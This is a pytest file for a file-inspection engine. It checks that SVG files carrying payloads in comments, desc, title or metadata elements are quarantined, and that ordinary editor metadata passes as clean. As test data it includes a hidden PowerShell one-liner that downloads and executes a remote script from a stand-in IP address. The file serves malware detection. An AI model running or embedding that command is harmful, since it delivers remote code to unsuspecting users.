"""SVG comments and descriptive texts are judged like a picture's metadata text
(agent/inspect/svg.py `_prose`).

SVG 1.1 §5.4: `desc`, `title` and `metadata` hold text and data no renderer draws; XML
comments (§2.5 of XML 1.0) likewise. A script line or an encoded program there waits for
a loader, as in a JPEG comment.
"""

from __future__ import annotations

import base64

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
OPEN = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    + b'<rect width="4" height="4"/>'
)
PLACES = {
    "comment": lambda text: OPEN + b"<!-- " + text + b" --></svg>",
    "desc": lambda text: OPEN + b"<desc>" + text + b"</desc></svg>",
    "title": lambda text: OPEN + b"<title>" + text + b"</title></svg>",
    "metadata": lambda text: OPEN + b"<metadata>" + text + b"</metadata></svg>",
    "comment after the root": lambda text: OPEN + b"</svg>\n<!-- " + text + b" -->\n",
}


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("place", PLACES)
def test_a_payload_in_prose_is_quarantined(place: str, kind: str) -> None:
    report = inspect_bytes("logo.svg", PLACES[place](PAYLOADS[kind]))
    assert report.verdict.value == "quarantine"
    assert "svg.payload_in_metadata" in {f.code for f in report.findings}


def test_writers_comments_and_descriptions_stay_clean() -> None:
    svg = (
        b'<?xml version="1.0"?>\n<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . '
        b"SVG Version: 6.00 Build 0) -->\n" + OPEN + b"<title>Ward map</title>"
        b"<desc>Floor 2, east wing; created with Inkscape (http://www.inkscape.org/)</desc>"
        b'<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b"<dc:format>image/svg+xml</dc:format></rdf:RDF></metadata></svg>"
    )
    assert inspect_bytes("logo.svg", svg).verdict.value == "clean"
